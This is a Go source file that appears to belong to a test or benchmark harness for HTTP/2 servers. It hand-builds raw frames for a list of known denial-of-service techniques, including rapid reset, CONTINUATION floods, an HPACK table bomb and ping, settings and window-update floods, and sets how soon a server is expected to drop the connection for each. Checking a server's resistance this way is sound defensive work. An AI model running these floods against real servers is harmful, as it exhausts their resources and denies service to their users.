package traffic

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"slices"
	"strconv"
	"strings"
)

// More frames by hand, those that nobody sends in good faith.
const (
	framePriority     = 0x2
	frameContinuation = 0x9
	frameUnknown      = 0x42
)

// An Attack is one way to make an HTTP/2 server work for nothing.
type Attack struct {
	Name string
	// Limit is after how many units the server is to end the connection, when
	// nothing else is said to it; 0: it does not, and holds little instead.
	Limit int

	begin func(f *flooder)        // frames before the first unit
	unit  func(f *flooder, i int) // the i-th
	deaf  bool                    // reads nothing of what it provokes
	most  int                     // units after which it waits, if there is no limit
}

// Attacks are all of them, in the order of a report.
func Attacks() []Attack {
	return []Attack{
		{Name: "rapid-reset", Limit: 200, unit: func(f *flooder, _ int) { f.reset(f.request()) }},
		{Name: "made-you-reset", Limit: 200, unit: provoke},
		{Name: "continuation", Limit: 8, begin: unfinished, unit: func(f *flooder, _ int) { f.frame(frameContinuation, 0, f.id, crumbs[:512]) }},
		{Name: "empty-continuation", Limit: 8, begin: unfinished, unit: func(f *flooder, _ int) { f.frame(frameContinuation, 0, f.id, nil) }},
		{Name: "hpack-bomb", Limit: 50, begin: func(f *flooder) { f.table(4000) }, unit: func(f *flooder, _ int) { f.headers(flagEnd, bomb) }},
		{Name: "cookie-crumbs", Limit: 50, begin: func(f *flooder) { f.table(3) }, unit: func(f *flooder, _ int) { f.headers(flagEnd, crumbs) }},
		{Name: "settings", Limit: 200, unit: func(f *flooder, _ int) { f.frame(frameSettings, 0, 0, nil) }},
		{Name: "ping", Limit: 200, unit: func(f *flooder, _ int) { f.frame(framePing, 0, 0, eight) }},
		{Name: "unread-answers", begin: open, deaf: true, unit: excused, Limit: 1},
		{Name: "priority", Limit: 200, begin: open, unit: func(f *flooder, _ int) { f.frame(framePriority, 0, f.id, eight[:5]) }},
		{Name: "empty-data", Limit: 4, begin: open, unit: func(f *flooder, _ int) { f.frame(frameData, 0, f.id, nil) }},
		{Name: "window-update", Limit: 202, begin: open, unit: func(f *flooder, _ int) { f.uint32(frameWindowUpdate, 0, 1) }},
		{Name: "unknown-frames", Limit: 200, unit: func(f *flooder, _ int) { f.frame(frameUnknown, 0, 0, nil) }},
		{Name: "zero-window", begin: func(f *flooder) { f.setting(settingWindow, 0) }, most: 100, unit: func(f *flooder, _ int) { f.long() }},
		{Name: "stray-resets", Limit: 200, begin: func(f *flooder) { f.reset(f.request()) }, unit: func(f *flooder, _ int) { f.reset(f.id) }},
		{Name: "stray-data", Limit: 200, begin: func(f *flooder) { f.uint32(frameWindowUpdate, f.request(), 0) }, unit: func(f *flooder, _ int) { f.frame(frameData, flagEnd, f.id, nil) }},
	}
}

// provoke makes the server reset a stream, by another fault each time.
func provoke(f *flooder, i int) {
	id := f.request()
	switch i % 4 {
	case 0:
		f.uint32(frameWindowUpdate, id, 0)
	case 1:
		f.uint32(frameWindowUpdate, id, 1<<31-1)
	case 2:
		f.frame(framePriority, 0, id, eight[:4]) // too short
	case 3:
		f.frame(framePriority, 0, id, binary.BigEndian.AppendUint32(nil, id)) // the same, of itself
	}
}

// unfinished begins a head that never ends.
func unfinished(f *flooder) {
	f.id += 2
	f.frame(frameHeaders, flagEnd, f.id, f.head)
}

// open begins a request that never ends.
func open(f *flooder) { f.request() }

// excused sends a PING that is not one too many, because there is DATA with it.
func excused(f *flooder, _ int) {
	f.frame(frameData, 0, f.id, eight[:1])
	f.frame(framePing, 0, 0, eight)
}

var (
	eight  = make([]byte, 8)
	bomb   = bytes.Repeat([]byte{0xbe}, 16_000) // the newest entry of the table
	crumbs = bytes.Repeat([]byte{0xbe}, 1_000)
)

// A flooder writes an attack's frames for one connection, that of the mesh or
// the one inside a tunnel.
type flooder struct {
	inner bool
	head  []byte // of a request that has more to send
	id    uint32 // the newest stream
	out   []byte
}

func (f *flooder) frame(typ, flags byte, id uint32, p []byte) {
	f.out = append(f.out, byte(len(p)>>16), byte(len(p)>>8), byte(len(p)), typ, flags)
	f.out = binary.BigEndian.AppendUint32(f.out, id)
	f.out = append(f.out, p...)
}

func (f *flooder) uint32(typ byte, id, v uint32) {
	f.frame(typ, 0, id, binary.BigEndian.AppendUint32(nil, v))
}

func (f *flooder) setting(id uint16, v uint32) {
	f.frame(frameSettings, 0, 0, binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(nil, id), v))
}

func (f *flooder) reset(id uint32) { f.uint32(frameReset, id, codeCancel) }

// headers opens a stream with a head.
func (f *flooder) headers(end byte, block []byte) uint32 {
	f.id += 2
	f.frame(frameHeaders, flagHeaders|end, f.id, block)
	return f.id
}

// request opens a stream with a request that is well formed and has not ended.
func (f *flooder) request() uint32 { return f.headers(0, f.head) }

// long asks for an answer of a megabyte.
func (f *flooder) long() {
	if f.inner {
		f.headers(flagEnd, innerHead("GET", 1<<20, 0))
		return
	}
	f.frame(frameData, 0, f.request(), longRequest)
}

// table puts a field with a value of so many bytes into the server's table, where
// one byte names it.
func (f *flooder) table(n int) {
	b := appendText(append(slices.Clone(f.head), 0x40), "cookie")
	f.headers(0, appendText(b, strings.Repeat("v", n)))
}

var longRequest = newRequest(1<<20, 0).bytes

// innerHead is a request as a header block: names by their place in the static
// table where it has them, values as they are, nothing indexed.
func innerHead(method string, answer, upload int64) []byte {
	b := appendText([]byte{0x86, 0x02}, method)
	b = appendText(append(b, 0x04), fmt.Sprintf("/api/items?bytes=%d", answer))
	b = appendText(append(b, 0x01), "svc.bench")
	if upload > 0 {
		b = appendText(appendText(append(b, 0x00), "content-length"), strconv.FormatInt(upload, 10))
	}
	return appendText(appendText(append(b, 0x00), "x-echo"), "0123456789abcdef")
}

// appendText appends a string literal without Huffman's code (RFC 7541, section
// 5.2).
func appendText(b []byte, s string) []byte {
	n := len(s)
	if n < 127 {
		return append(append(b, byte(n)), s...)
	}
	b = append(b, 127)
	for n -= 127; n >= 128; n >>= 7 {
		b = append(b, byte(n)|128)
	}
	return append(append(b, byte(n)), s...)
}
